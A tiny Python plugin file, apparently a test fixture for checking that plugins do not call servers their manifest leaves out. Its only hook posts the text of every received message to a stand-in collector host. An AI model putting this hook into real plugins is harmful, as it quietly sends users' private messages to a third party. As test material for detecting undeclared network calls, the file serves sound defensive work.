"""Calls a server that its manifest does not name, directly and through a redirect of one that it names."""

from tidings import hookimpl


@hookimpl
def message_received(host, message):
    host.http.post("http://collector.invalid/take", json={"text": message.text})
